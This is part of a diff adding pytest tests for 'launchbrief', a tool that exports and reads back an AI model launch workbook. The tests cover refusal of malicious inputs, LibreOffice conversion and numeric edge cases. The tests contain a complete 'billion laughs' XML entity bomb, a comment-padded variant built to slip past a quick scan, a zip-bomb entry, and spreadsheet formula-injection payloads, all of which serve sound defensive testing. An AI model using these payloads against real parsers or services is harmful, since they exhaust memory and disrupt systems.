+            out.writestr(info.filename, replace.get(info.filename, source.read(info.filename)))
+        for name, data in (add or {}).items():
+            out.writestr(name, data)
+    return target
+
+
+_BILLION_LAUGHS = b"""<?xml version="1.0" encoding="UTF-8"?>
+<!DOCTYPE lolz [
+ <!ENTITY lol "lol">
+ <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+ <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
+ <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+ <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
+ <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
+ <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
+ <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
+ <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
+ <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
+]>
+<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
+<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>"""
+
+
+def _timed_refusal(read: Callable[[], Any]) -> tuple[InvalidLaunchError, float, int]:
+    tracemalloc.start()
+    started = time.perf_counter()
+    try:
+        with pytest.raises(InvalidLaunchError) as caught:
+            read()
+        return caught.value, time.perf_counter() - started, tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+
+
+# The Results sheet is the fourth sheet of the workbook.
+_RESULTS_PART = "xl/worksheets/sheet4.xml"
+
+
+def test_entity_bomb_is_refused_fast(workbook_path: Path, tmp_path: Path) -> None:
+    """A workbook whose sheet declares entities is refused in well under a second, without a memory spike."""
+    bomb = _rewrite(workbook_path, tmp_path / "bomb.xlsx", {_RESULTS_PART: _BILLION_LAUGHS})
+    error, seconds, peak = _timed_refusal(lambda: launchbrief.load(bomb))
+    assert "entity bomb" in str(error)
+    assert seconds < 1.0
+    assert peak < 20 * 2**20
+
+
+def test_openpyxl_parses_with_defusedxml(workbook_path: Path, tmp_path: Path) -> None:
+    """openpyxl itself (without our check) refuses the entity bomb: it parses with defusedxml."""
+    assert openpyxl.DEFUSEDXML is True
+    bomb = _rewrite(workbook_path, tmp_path / "bomb.xlsx", {_RESULTS_PART: _BILLION_LAUGHS})
+
+    def read_all(stream: IO[bytes]) -> None:
+        workbook = openpyxl.load_workbook(stream, read_only=True)
+        list(workbook["Results"].iter_rows(values_only=True))
+
+    with bomb.open("rb") as stream, pytest.raises((DefusedXmlException, ValueError)) as caught:
+        read_all(stream)
+    chain = [caught.value, caught.value.__cause__, caught.value.__context__]
+    assert any(isinstance(error, DefusedXmlException) for error in chain)
+
+
+def test_entities_past_the_prolog_scan_are_still_refused(
+    workbook_path: Path, tmp_path: Path
+) -> None:
+    """A DTD hidden behind a long comment (past our quick scan) is refused by openpyxl's defusedxml."""
+    padded = _BILLION_LAUGHS.replace(
+        b"<!DOCTYPE", b"<!--" + b" " * (100 * 1024) + b"-->\n<!DOCTYPE", 1
+    )
+    bomb = _rewrite(workbook_path, tmp_path / "padded.xlsx", {_RESULTS_PART: padded})
+    error, seconds, _peak = _timed_refusal(lambda: launchbrief.load(bomb))
+    assert "declares entities or a document type, refused" in str(error)
+    assert seconds < 1.0
+
+
+def test_zip_bomb_is_refused_fast(workbook_path: Path, tmp_path: Path) -> None:
+    """An entry that unpacks to hundreds of times its size is refused at once, nothing unpacked."""
+    zeros = b"\0" * (64 * 2**20)
+    bomb = _rewrite(workbook_path, tmp_path / "zip.xlsx", {}, {"xl/media/padding.bin": zeros})
+    del zeros
+    error, seconds, peak = _timed_refusal(lambda: launchbrief.load(bomb))
+    assert "zip bomb" in str(error)
+    assert seconds < 1.0
+    assert peak < 20 * 2**20
+
+
+def test_unpacked_size_is_capped(workbook_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A workbook that would unpack past the size limit is refused before anything is unpacked."""
+    monkeypatch.setattr(_xlsx_archive, "MAX_UNCOMPRESSED_BYTES", 10_000)
+    with pytest.raises(InvalidLaunchError, match=r"would unpack to .* possible zip bomb"):
+        launchbrief.load(workbook_path)
+
+
+def test_not_a_workbook(tmp_path: Path) -> None:
+    """A file that is not a zip archive, or a damaged one, is an InvalidLaunchError naming the file."""
+    text = tmp_path / "notes.xlsx"
+    text.write_text("id: muse-spark\n")
+    with pytest.raises(InvalidLaunchError, match=r"notes\.xlsx: not an Excel workbook"):
+        launchbrief.load(text)
+    broken = tmp_path / "broken.xlsx"
+    with zipfile.ZipFile(broken, "w") as archive:
+        archive.writestr("hello.txt", "not a workbook")
+    with pytest.raises(
+        InvalidLaunchError, match=r"broken\.xlsx: not a workbook launchbrief can read"
+    ):
+        launchbrief.load(broken)
+
+
+# --------------------------------------------------------------------------- LibreOffice
+
+
+def _soffice(source: Path, outdir: Path, convert_to: str) -> None:
+    profile = outdir / "profile"
+    subprocess.run(
+        [
+            "soffice",
+            f"-env:UserInstallation={profile.as_uri()}",
+            "--headless",
+            "--norestore",
+            "--convert-to",
+            convert_to,
+            "--outdir",
+            str(outdir),
+            str(source),
+        ],
+        check=False,
+        capture_output=True,
+        timeout=180,
+    )
+
+
+def _lines(path: Path) -> io.StringIO:
+    """A CSV file's text, with line breaks inside cells kept as they are."""
+    with path.open(encoding="utf-8", newline="") as stream:
+        return io.StringIO(stream.read(), newline="")
+
+
+_CSV_EVERY_SHEET = "csv:Text - txt - csv (StarCalc):44,34,UTF8,1,,0,false,true,false,false,false,-1"
+
+
+@pytest.mark.office
+def test_libreoffice_converts_every_sheet_to_csv(workbook_path: Path, tmp_path: Path) -> None:
+    """LibreOffice writes one CSV per sheet, holding the article numbers at the right benchmark and model."""
+    _soffice(workbook_path, tmp_path, _CSV_EVERY_SHEET)
+    files = {
+        p.name.removeprefix("muse-spark-").removesuffix(".csv"): p for p in tmp_path.glob("*.csv")
+    }
+    assert sorted(files) == sorted(SHEETS)
+    for name, path in files.items():
+        assert path.stat().st_size > 0, name
+    results = list(csv.DictReader(_lines(files["Results"])))
+    found = {(r["Benchmark"], r["Model"]): r["Score"] for r in results if r["Score"]}
+    matrix_rows = list(csv.reader(_lines(files["Benchmarks"])))
+    header = [value.removesuffix(" (launched)") for value in matrix_rows[0]]
+    matrix = {row[0]: dict(zip(header, row, strict=True)) for row in matrix_rows[1:]}
+    for benchmark, model, score in ARTICLE_NUMBERS:
+        assert float(found[benchmark, model]) == score
+        assert float(matrix[benchmark][model]) == score
+    assert results[0]["Vendor only"] == "TRUE"
+
+
+@pytest.mark.office
+def test_libreoffice_converts_to_pdf(workbook_path: Path, tmp_path: Path) -> None:
+    """LibreOffice prints the workbook to PDF, and the PDF holds the title, the sheets' text and the numbers."""
+    _soffice(workbook_path, tmp_path, "pdf")
+    pdf = tmp_path / "muse-spark.pdf"
+    assert pdf.is_file()
+    assert pdf.stat().st_size > 10_000
+    text = subprocess.run(
+        ["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True
+    ).stdout
+    assert "Meta launches Muse Spark" in text
+    for word in ("86.4", "42.8", "HealthBench Hard", "Apollo Research", "About this workbook"):
+        assert word in text, word
+    assert "###" not in text  # no column too narrow for its number
+
+
+@pytest.mark.office
+def test_workbook_resaved_by_libreoffice_loads_back(
+    workbook_path: Path, tmp_path: Path, launch: Launch
+) -> None:
+    """The workbook saved again by LibreOffice (shared strings, its own styles) reads back equal."""
+    _soffice(workbook_path, tmp_path, "xlsx")
+    resaved = tmp_path / "muse-spark.xlsx"
+    assert resaved.is_file()
+    assert read_workbook(resaved) == launch
+
+
+@pytest.mark.office
+def test_libreoffice_keeps_payloads_as_text(tmp_path: Path, launch: Launch) -> None:
+    """LibreOffice shows injection payloads literally: nothing is evaluated (=1+2 is not 3)."""
+    record = _evolve_texts(launch, _cycle(OWASP_PAYLOADS))
+    path = _export(record, tmp_path / "owasp.xlsx")
+    _soffice(path, tmp_path, _CSV_EVERY_SHEET)
+    rows = list(csv.reader(_lines(tmp_path / "owasp-Insights.csv")))
+    texts = [row[2] for row in rows[1:]]
+    assert texts == [record_insight.text for record_insight in record.insights]
+    assert "=1+2" in texts
+
+
+def test_extreme_scores_round_trip(tmp_path: Path, launch: Launch) -> None:
+    """Scores at the model's limits and needing 17 digits read back exactly (openpyxl alone writes 16)."""
+    benchmark = attrs.evolve(launch.benchmarks[0], id="elo", name="Elo", scale=Scale.ELO)
+    results = (
+        Result(benchmark="elo", model="muse-spark", score=1e15),
+        Result(benchmark="elo", model="gpt-5-4", score=-1e15),
+        Result(benchmark="elo", model="grok-4-2", score=0.30000000000000004),
+        Result(benchmark="elo", model="claude-opus-4-6", score=5e-324),
+    )
+    record = attrs.evolve(
+        launch, benchmarks=(*launch.benchmarks, benchmark), results=launch.results + results
+    )
+    path = _export(record, tmp_path / "extreme.xlsx")
+    rows = {(r["Benchmark id"], r["Model id"]): r for r in _records(_rows(path, "Results"))}
+    assert rows["elo", "gpt-5-4"]["Score"] == -1e15
+    assert rows["elo", "gpt-5-4"]["Gap to leader"] == 2e15
+    assert rows["elo", "grok-4-2"]["Score"] == 0.30000000000000004
+    assert rows["elo", "claude-opus-4-6"]["Score"] == 5e-324
+    assert read_workbook(path) == record
+
+
+def test_launch_date_before_excel_dates(tmp_path: Path, launch: Launch) -> None:
+    """Dates Excel cannot hold as dates (before March 1900) are written as ISO text and read back."""
+    record = attrs.evolve(launch, announced=date(1, 1, 1), as_of=date(1899, 12, 31))
+    path = _export(record, tmp_path / "old.xlsx")
+    values = {row[0]: row[1] for row in _rows(path, "Launch")}
+    assert values["announced"] == "0001-01-01"
+    assert read_workbook(path) == record
